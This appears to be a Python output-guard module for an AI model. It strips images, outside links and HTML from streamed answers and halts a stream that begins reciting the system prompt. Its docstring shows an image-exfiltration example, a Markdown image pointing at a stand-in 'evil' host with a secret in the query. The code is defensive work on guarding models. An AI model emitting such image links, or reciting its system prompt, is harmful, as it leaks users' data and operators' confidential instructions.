"""What a model writes, made safe to show anywhere (the page, the CLI, the HTTP API's
clients) before anyone sees it.

- Images go (their alt text stays): a Markdown image loads by itself, so an answer could
  send what it knows to any server (`![](https://evil/?q=<secret>)`).
- Links keep their text and lose their target, unless the target is one the guide itself
  gives or an anchor inside the page (`#threat-1`).
- HTML tags go (their text stays): an answer is never HTML.
- An answer that starts reciting the system prompt is stopped and replaced by the decline.

Hand-written rather than a Markdown sanitiser library: the libraries (bleach, nh3) clean
*HTML*; here the text stays Markdown and only three constructs matter, on a token stream.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\](?:\(([^)\n]{0,2000})\)|\[[^\]\n]{0,300}\])")
_LINK = re.compile(r"(?<!!)\[([^\]\n]{0,300})\]\(([^)\s\n]{0,2000})(?:\s+\"[^\"\n]*\")?\)")
_REF_DEFINITION = re.compile(r"^\[[^\]\n]+\]:[ \t]*\S[^\n]*\n?", re.M)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.I)
_BARE_URL = re.compile(r"\b(?:https?://|www\.)[^\s<>()\[\]]+", re.I)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]{0,500})?/?>|<!--.*?-->", re.S)
# Where a construct may begin that could still be open at the end of a stream piece.
_OPENERS = re.compile(r"!?\[|<")
_BRACKET_DONE = re.compile(r"!?\[[^\]\n]*\](?:\([^)\n]*\)|\[[^\]\n]*\]|(?=[^(\[]))")
_REF_START = re.compile(r"\[[^\]\n]+\]:")
HOLD_MAX = 600  # longer than any construct above: past this, a `[` is plain text
_WORD = re.compile(r"[a-z0-9']+")
LEAK_WINDOW = 8  # this many words of the system prompt in a row is a recital
HELD_WORDS = 3  # a run of this many of its words, in its order, is held back


def _allowed(url: str, guide_urls: frozenset[str]) -> bool:
    return url.startswith("#") or url.rstrip("/") in guide_urls


def strip_unsafe(text: str, guide_urls: frozenset[str] = frozenset()) -> str:
    """`text` with images, foreign links and HTML removed (see the module's docstring)."""
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _LINK.sub(lambda m: m.group(0) if _allowed(m.group(2), guide_urls) else m.group(1), text)
    text = _REF_DEFINITION.sub("", text)
    text = _AUTOLINK.sub(lambda m: m.group(1) if m.group(1).rstrip("/") in guide_urls else "", text)
    text = _TAG.sub("", text)
    return _BARE_URL.sub(
        lambda m: m.group(0) if m.group(0).rstrip("/.,;") in guide_urls else "(link removed)",
        text,
    )


def urls_in(texts: Iterable[str]) -> frozenset[str]:
    """The URLs the guide's passages give, which an answer may link to."""
    return frozenset(u.rstrip("/.,;") for t in texts for u in _BARE_URL.findall(t))


def _construct_end(text: str, start: int) -> int | None:
    """Where the `[...](...)` or `<...>` opening at `start` ends; None while it may still be
    open. Text too long to be one is plain text: it ends where it starts."""
    rest = text[start : start + HOLD_MAX + 1]
    if rest.startswith("<"):
        close = min((i for i in (rest.find(">"), rest.find("\n")) if i != -1), default=-1)
        return start + close + 1 if close != -1 else (None if len(rest) <= HOLD_MAX else start + 1)
    if (start == 0 or text[start - 1] == "\n") and _REF_START.match(rest):
        newline = rest.find("\n")  # a link definition runs to the end of its line
        return start + newline + 1 if newline != -1 else None
    done = _BRACKET_DONE.match(rest)
    if done:
        return start + done.end()
    if "\n" in rest or len(rest) > HOLD_MAX:
        return start + 1
    return None


def _stable_end(text: str) -> int:
    """How much of `text` can be cleaned and shown now: up to its last whitespace (a URL or
    a "!" at the very end may still grow), and not into a construct that may still be open
    or that runs past that point, so each construct is cleaned whole."""
    end = len(text) if text[-1:].isspace() else max(text.rfind(" "), text.rfind("\n")) + 1
    pos = 0
    while (m := _OPENERS.search(text, pos, end)) is not None:
        close = _construct_end(text, m.start())
        if close is None or close > end:
            return m.start()
        pos = close
    return end


def words(text: str) -> list[str]:
    return _WORD.findall(text.lower())


class OutputGuard:
    """Cleans a stream of answer text as it arrives; `tripped` when it began reciting the
    system prompt, after which nothing more is let through."""

    def __init__(self, system_prompt: str, guide_urls: frozenset[str] = frozenset()) -> None:
        tokens = words(system_prompt)
        windows = [tuple(tokens[i : i + LEAK_WINDOW]) for i in range(len(tokens) - LEAK_WINDOW + 1)]
        self._windows = set(windows)
        # Beginnings of a recital are held back until they end or trip the guard, so that a
        # stream shows at most a couple of the prompt's words before it stops.
        self._openings = {w[:n] for w in windows for n in range(HELD_WORDS, LEAK_WINDOW)}
        self.guide_urls = guide_urls
        self.tripped = False
        self._seen = ""

    def _recites(self, text: str) -> bool:
        said = words(text)
        return any(
            tuple(said[i : i + LEAK_WINDOW]) in self._windows
            for i in range(len(said) - LEAK_WINDOW + 1)
        )

    def _opening_at(self, held: str) -> int:
        """Where, in `held`, a run of words that may be a recital's beginning starts (its
        length when there is none)."""
        recent = self._seen[-2000:]
        # Whole words only: a word still being written is held back anyway (`_stable_end`).
        whole = recent if recent[-1:].isspace() else recent[: max(map(recent.rfind, " \n")) + 1]
        spans = [(m.start(), m.group()) for m in _WORD.finditer(whole.lower())]
        for n in range(min(LEAK_WINDOW - 1, len(spans)), HELD_WORDS - 1, -1):
            if tuple(w for _, w in spans[-n:]) in self._openings:
                return max(spans[-n][0] - (len(recent) - len(held)), 0)
        return len(held)

    def filter(self, pieces: Iterable[str]) -> Iterator[str]:
        held = ""
        for piece in pieces:
            self._seen += piece
            if self._recites(self._seen[-4000:]):
                self.tripped = True
                return
            held += piece
            end = min(_stable_end(held), self._opening_at(held))
            if end:
                yield strip_unsafe(held[:end], self.guide_urls)
                held = held[end:]
        if held:
            yield strip_unsafe(held, self.guide_urls)
